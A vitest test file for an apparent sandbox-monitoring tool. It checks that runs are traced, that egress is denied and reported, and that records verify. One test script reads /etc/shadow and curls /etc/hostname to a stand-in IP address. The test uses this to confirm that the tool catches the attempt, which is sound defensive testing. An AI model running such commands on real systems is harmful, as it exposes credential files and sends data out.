// The same command as an ordinary user: what can be had is had, what cannot is said.
import { chmodSync, chownSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { layoutOf } from '@sandtrail/local/layout';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { runCommand } from '../world/command.ts';
import { endLeftovers } from '../world/leftovers.ts';
import { policyOf } from '../world/workload.ts';

const uid = 65_534;
let folder = '';
let data = '';
let policy = '';

beforeAll(() => {
  folder = mkdtempSync(path.join(tmpdir(), 'st-'));
  chmodSync(folder, 0o755);
  // The directory beside the data, for the heads, is the user's to make as well.
  const home = path.join(folder, 'u');
  mkdirSync(home);
  chownSync(home, uid, uid);
  data = path.join(home, 'd');
  policy = path.join(folder, 'policy.json');
  writeFileSync(policy, JSON.stringify(policyOf()));
});

afterAll(async () => {
  const left = await endLeftovers({ folder, seen: [], layout: undefined, cgroupParent: '' });
  rmSync(folder, { recursive: true, force: true });
  expect(left).toEqual([]);
});

test('a run starts its own recorder, is watched by strace, and says what is not enforced', async () => {
  const script =
    'id -u; ls / >/dev/null; cat /etc/shadow; curl -s http://198.51.100.7/x -d @/etc/hostname; exit 3';
  const words = ['run', '--data', data, '--policy', policy, '--json', '--', 'sh', '-c', script];
  const { exit, stdout, stderr } = await runCommand(words, { uid });
  expect(exit, stderr).toBe(3);
  const report = JSON.parse(stdout.trimEnd().split('\n').at(-1) ?? '');
  expect(report).toMatchObject({ exitCode: 3, reason: 'exited', losses: [] });
  expect(report.events['process.exec']).toBeGreaterThanOrEqual(4);
  expect(report.events['file.open']).toBeGreaterThan(10);
  expect(report.events['network.denied']).toBe(1);
  expect(JSON.stringify(report.findings)).toContain('egress-policy');
  const fields = report.unenforced.map(({ field }: { field: string }) => field);
  expect(fields).toContain('resources.memory_limit');
});

test('what it recorded is there afterwards, and verifies against its heads', async () => {
  const seen = await runCommand(['query', '--data', data, '--kind', 'process.exec'], { uid });
  expect(seen.stdout).toMatch(/shadow/);
  const head = layoutOf(data).headFile;
  const verified = await runCommand(['verify', '--data', data, '--head', head, '--json'], { uid });
  expect(verified.exit, verified.stdout).toBe(0);
});

test('what belongs to root is refused with words, not with a stack', async () => {
  const mine = path.join(folder, 'roots');
  mkdirSync(mine, { mode: 0o700 });
  const { exit, stderr } = await runCommand(['up', '--data', path.join(mine, 'd')], { uid });
  expect(stderr).toMatch(/DATA_DIR_UNUSABLE/);
  expect(stderr).not.toMatch(/\n\s+at .*:\d+:\d+/);
  expect(exit).toBe(73);
});
